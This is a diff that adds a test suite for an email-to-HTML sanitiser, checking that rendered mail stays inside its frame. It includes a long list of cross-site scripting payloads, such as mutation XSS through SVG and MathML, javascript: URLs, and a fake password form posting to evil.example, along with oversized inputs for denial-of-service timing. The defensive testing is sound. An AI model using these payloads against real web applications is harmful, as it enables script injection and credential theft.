@@ -1,0 +1,243 @@
+import fc from 'fast-check';
+import { expect, test } from 'vitest';
+import { pageReply } from '../../../src/gateway/pages/layout';
+import { type SanitiseOptions, sanitiseHtml } from '../../../src/gateway/pages/sanitise/sanitise';
+import { html } from '../../../src/gateway/text/html';
+import { cpuTimeOf } from '../../cpu-time';
+import { openGateway, pageOf, signInByHand, visit } from '../open-gateway';
+import { createReaderMailbox } from '../reader-mailbox';
+
+const TAGS = new Set(
+  (
+    'h1 h2 h3 h4 h5 h6 p div blockquote pre hr br wbr img a ul ol li dl dt dd figure figcaption table caption ' +
+    'thead tbody tfoot tr th td abbr b bdi big cite code del dfn em i ins kbd mark q s samp small span strike ' +
+    'strong sub sup time tt u var ruby rt rp'
+  ).split(' '),
+);
+const ATTRIBUTES = new Set('dir lang href target rel src alt width height start colspan rowspan'.split(' '));
+
+/** Why an element of a mail must not stand on a page. */
+function faultsOf(element: Element): string[] {
+  const { localName, namespaceURI, attributes } = element;
+  const faults = [...attributes].filter(({ name }) => !ATTRIBUTES.has(name)).map(({ name }) => `[${name}]`);
+  if (!TAGS.has(localName) || namespaceURI !== 'http://www.w3.org/1999/xhtml') faults.push(localName);
+  const read = (name: string) => element.getAttribute(name) ?? undefined;
+  const { href, src } = { href: read('href'), src: read('src') };
+  if (href !== undefined && !/^(https?:\/\/|mailto:)/.test(href)) faults.push(href);
+  if (src !== undefined && !/^data:image\/(png|jpeg|gif|webp);base64,/.test(src)) faults.push(src);
+  const opens = `${read('target')} ${read('rel')}`;
+  if (localName === 'a' && opens !== '_blank noopener noreferrer') faults.push(`opens ${opens}`);
+  return faults;
+}
+
+/** What in the frame of the mail isn't allowed there, and what has got out of it. */
+function faultsIn(page: Document): string[] {
+  const inside = page.querySelectorAll('main > .mail *');
+  const outside = 'script, iframe, object, svg, base, meta[http-equiv], main > form';
+  return [...[...inside].flatMap(faultsOf), ...[...page.querySelectorAll(outside)].map(it => it.localName)];
+}
+
+const ATTEMPTS: Readonly<Record<string, string>> = {
+  script: '<script>alert(1)</script>',
+  'script in capitals': '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  'script within script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  'script unclosed': '<script>alert(1)',
+  'script closed oddly': '<script >alert(1)</script\t\n bar>',
+  onerror: '<img src=x onerror=alert(1)>',
+  'onerror with slashes': '<img/src="x"/onerror="alert(1)">',
+  'onerror in an unclosed attribute': '<img alt="<img src=x onerror=alert(1)//">',
+  'unclosed attribute': '<a href="https://example.org/ onmouseover=alert(1) x',
+  'unclosed tag': '<img src=x onerror=alert(1) ',
+  onclick: '<div onclick=alert(1) ONCLICK=alert(2)>x</div>',
+  'onload of body': '<body onload=alert(1)>x',
+  'javascript:': '<a href="javascript:alert(1)">x</a>',
+  'javascript: with an entity': '<a href="java&#115;cript&colon;alert(1)">x</a>',
+  'javascript: with tabs': '<a href="java\tscript\n:alert(1)">x</a>',
+  'javascript: with entity tabs': '<a href="jav&#x09;ascript&#10;:alert(1)">x</a>',
+  'javascript: with leading controls': '<a href="\u0001 \u001fjavascript:alert(1)">x</a>',
+  'javascript: in a picture': '<img src="javascript:alert(1)">',
+  'vbscript:': '<a href="vbscript:msgbox(1)">x</a>',
+  'data:text/html': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  'data:text/html in a picture': '<img src="data:text/html,<script>alert(1)</script>">',
+  'data: with an SVG': '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
+  'data: with more than base64': '<img src="data:image/png;base64,AA==&quot; onerror=alert(1)">',
+  'blob:, file:, cid:':
+    '<a href="blob:https://x/y">x</a><a href="file:///etc/passwd">x</a><a href="cid:x">x</a>',
+  'of this page':
+    '<a href="/sign-out">x</a><a href="?images=1">x</a><a href="#x">x</a><a href="//evil">x</a>',
+  'svg onload': '<svg onload=alert(1)><a href="javascript:alert(1)"><text>x</text></a></svg>',
+  'svg script': '<svg><script>alert(1)</script></svg>',
+  'svg animate': '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
+  'svg foreignObject': '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
+  math: '<math href="javascript:alert(1)"><mtext><img src=x onerror=alert(1)></mtext></math>',
+  'style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.example/)">x</p>',
+  'style element': '<style>@import url(https://evil.example/); * { display: none }</style>x',
+  'classes and ids': '<div class="actions" id="user" name="form"><p class="notice bad">x</p></div>',
+  'meta refresh': '<meta http-equiv=refresh content="0;url=https://evil.example/">x',
+  base: '<base href="https://evil.example/"><a href="x">x</a>',
+  link: '<link rel=stylesheet href=https://evil.example/x.css>x',
+  form: '<form action=https://evil.example/><input name=password type=password><button>Sign in</button></form>',
+  'form attributes': '<button form=x formaction=javascript:alert(1)>x</button><input type=image src=x>',
+  iframe: '<iframe src="javascript:alert(1)"></iframe>',
+  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  'object, embed, applet': '<object data=x.swf><embed src=x.swf></object><applet code=x></applet>',
+  'video and audio': '<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x>',
+  frameset: '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
+  template: '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>x',
+  noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  'mutation by style in math':
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  'mutation by nested forms':
+    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>',
+  'mutation by svg and p': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  'mutation by xmp': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
+  'mutation by textarea': '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
+  'mutation by title': '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
+  'mutation by select': '<select><style><img src=x onerror=alert(1)></style></select>',
+  'backticks and NUL':
+    '<img src=`x` onerror=alert(1)><scr\0ipt>alert(1)</scr\0ipt><a hr\0ef=javascript:1>x</a>',
+  'comment that ends early': '<!--><img src=x onerror=alert(1)>--><!-- --!><script>alert(1)</script>-->',
+  'conditional comment':
+    '<!--[if gte mso 9]><script>alert(1)</script><![endif]--><![if !mso]><b>x</b><![endif]>',
+  CDATA: '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  'processing instruction': '<?xml version="1.0"?><?php echo "<script>alert(1)</script>" ?>x',
+  plaintext: '<plaintext><script>alert(1)</script></main><form>',
+  'ends of elements that aren’t its own': '</div></main></body></html><form action=x><h1>Sign in</h1></form>',
+  'table parts on their own': '<td>x</td><tr><td>x</table></div></main><form><input>',
+  'links in links':
+    '<a href="https://a.example/"><table><tr><td><a href="https://b.example/">x</table>y</a><b>',
+  'unknown and namespaced': '<x:script>alert(1)</x:script><custom-element onclick=x>x</custom-element>',
+  'names of every object': '<constructor>x</constructor><p constructor=x __proto__=y toString=z>x</p>',
+  'selectors for names': '<script.x>alert(1)</script.x><p#user.notice>x</p#user.notice>',
+  srcset: '<img srcset="https://evil.example/a 2x" lowsrc=x dynsrc=x longdesc=javascript:x alt=x>',
+  'background of a table': '<table background="https://evil.example/"><tr><td background=x>x</table>',
+  popovers: '<div popover id=x>x</div><button popovertarget=x>x</button><dialog open>x</dialog>',
+  'target and rel of its own': '<a href="https://example.org/" target=_self rel=opener ping=x download>x</a>',
+  'spans too wide':
+    '<table><tr><td colspan=99999 rowspan=99999 width=99999>x</table><ol start=9999999><li>x</ol>',
+};
+
+const parse = async (mail: string, options?: SanitiseOptions) => {
+  const body = html`<div class="mail">${sanitiseHtml(mail, options)?.html}</div><p id="after">after</p>`;
+  return pageOf(new Response(pageReply({ language: 'en', title: 'x', body }).body));
+};
+const frameOf = async (mail: string, options?: SanitiseOptions) =>
+  (await parse(mail, options)).querySelector('main > .mail');
+
+test.each(Object.keys(ATTEMPTS))('%s does nothing', async name => {
+  const page = await parse(`<p>begin</p>${ATTEMPTS[name]}`);
+  expect(page.querySelector('main > .mail')?.textContent).toContain('begin');
+  expect(page.querySelector('main > #after')?.textContent).toBe('after');
+  expect(faultsIn(page)).toEqual([]);
+});
+
+test('what ends elements that aren’t its own ends nothing of the page that is served', async () => {
+  const names = ['plaintext', 'ends of elements that aren’t its own', 'table parts on their own', 'form'];
+  const messages = names.map(name => [name, { html: `<p>begin</p>${ATTEMPTS[name]}`, text: 'x' }]);
+  const gateway = await openGateway({ mailbox: createReaderMailbox(Object.fromEntries(messages)) });
+  const { cookie } = await signInByHand(gateway);
+  for (const name of names) {
+    const path = `/message/${encodeURIComponent(name)}`;
+    const page = await pageOf(await visit(gateway, path, { headers: { cookie } }));
+    expect(page.querySelector('main > .mail')?.textContent).toContain('begin');
+    expect(page.querySelector('main > .actions > a')?.getAttribute('href')).toBe('/mail');
+    expect(page.querySelectorAll('form')).toHaveLength(1);
+    expect(faultsIn(page)).toEqual([]);
+  }
+  await gateway.close();
+});
+
+test('no mixture of pieces leaves its frame', async () => {
+  const pieces = Object.values(ATTEMPTS).flatMap(attempt => attempt.split(/(?=<)/));
+  const mails = fc.array(fc.constantFrom(...pieces), { minLength: 1, maxLength: 12 });
+  const check = async (parts: string[]) => {
+    const page = await parse(parts.join(''));
+    expect(faultsIn(page)).toEqual([]);
+    expect(page.querySelector('main > #after')?.textContent).toBe('after');
+  };
+  await fc.assert(fc.asyncProperty(mails, check), { numRuns: 100 });
+});
+
+const KIB = 1024;
+const fill = (piece: string) => piece.repeat((256 * KIB) / piece.length);
+
+test.each<[string, string]>([
+  ['nested elements', '<div>'.repeat(100_000)],
+  ['nested elements of all kinds', fill('<b><table><td><ul><li>')],
+  ['elements', fill('<p>x')],
+  ['unclosed elements', `${Array.from({ length: 300 }, (_, i) => `<b a${i}>`).join('')}${fill('<p>x')}`],
+  ['elements that don’t belong in a table', `<table>${fill('<br>x')}`],
+])('too many %s are given up in a moment', (_what, mail) => {
+  expect(cpuTimeOf(() => expect(sanitiseHtml(mail)).toBeUndefined())).toBeLessThan(1000);
+});
+
+test.each<[string, string]>([
+  ['attributes', `<p ${Array.from({ length: 40_000 }, (_, i) => `a${i}`).join(' ')}>x`],
+  ['comments', `x${fill('<!---->')}`],
+  ['ends of nothing', `x${'<div>'.repeat(300)}${fill('</x>')}`],
+  ['character references', fill('&amp;&lt')],
+  ['characters of one word', fill('x')],
+  ['characters <', fill('<')],
+])('very many %s take no more than a moment', (_what, mail) => {
+  expect(cpuTimeOf(() => expect(sanitiseHtml(mail)).toBeDefined())).toBeLessThan(1000);
+});
+
+test('one picture, named very often, is neither looked at nor sent very often', () => {
+  const data = `data:image/png;base64,${'A'.repeat(9 * KIB * KIB)}`;
+  let safe: ReturnType<typeof sanitiseHtml>;
+  const time = cpuTimeOf(() => {
+    safe = sanitiseHtml('<img src="cid:a" alt="A picture">'.repeat(1000), {
+      pictures: new Map([['a', data]]),
+    });
+  });
+  expect(time).toBeLessThan(1000);
+  expect(safe?.html.text.split('<img')).toHaveLength(2);
+  expect(safe?.html.text).toContain('A picture');
+});
+
+test('what a mail says is kept', async () => {
+  const frame = await frameOf(
+    '<html><head><title>T</title></head><body><center><h1>Head</h1></center><p dir="rtl" lang="ar">x <b>bold</b></p>' +
+      '<section>one</section><section>two</section><ul><li>li</ul><blockquote>q</blockquote><pre>a  b</pre>' +
+      '<table width=600><tr><th colspan=2>th<tr><td>1<td>2</table><a href=" https://example.org/?a=1&amp;b ">link</a>' +
+      '<a href="mailto:ann@example.org?subject=Hi">mail</a></body></html>',
+  );
+  expect(frame?.innerHTML).toBe(
+    '<div><h1>Head</h1></div><p dir="rtl" lang="ar">x <b>bold</b></p>' +
+      '<div>one</div><div>two</div><ul><li>li</li></ul><blockquote>q</blockquote><pre>a  b</pre>' +
+      '<table><tbody><tr><th colspan="2">th</th></tr><tr><td>1</td><td>2</td></tr></tbody></table>' +
+      '<a href="https://example.org/?a=1&amp;b" target="_blank" rel="noopener noreferrer">link</a>' +
+      '<a href="mailto:ann@example.org?subject=Hi" target="_blank" rel="noopener noreferrer">mail</a>',
+  );
+});
+
+test('a mail that runs from the right does so as a whole', async () => {
+  const frame = await frameOf('<html><body dir="rtl"><p>a</p></body></html>');
+  expect(frame?.innerHTML).toBe('<div dir="rtl"><p>a</p></div>');
+});
+
+test.each([
+  '<p style="color:red; DISPLAY : none">hidden</p>x',
+  '<div hidden>hidden</div>x',
+  '<span style="visibility:hidden">hidden</span>x',
+  '<div style="mso-hide:all">hidden</div>x',
+])('what isn’t to be seen stays unseen: %s', async mail => {
+  expect((await frameOf(mail))?.textContent).toBe('x');
+});
+
+test('a long word may be broken, and stays one', async () => {
+  const word = 'https://example.org/'.padEnd(300, 'x');
+  const frame = await frameOf(`<p>${word} end</p>`);
+  expect(frame?.textContent).toBe(`${word} end`);
+  expect(frame?.querySelectorAll('wbr').length).toBeGreaterThan(10);
+});
+
+test.each([
+  '',
+  '  ',
+  '<p></p>',
+  '<style>p {}</style><br>',
+  '<img src="https://e.example/p" width=1 height=1>',
+])('a mail of nothing to see is nothing: %j', mail => {
+  expect(sanitiseHtml(mail)).toBeUndefined();
+});
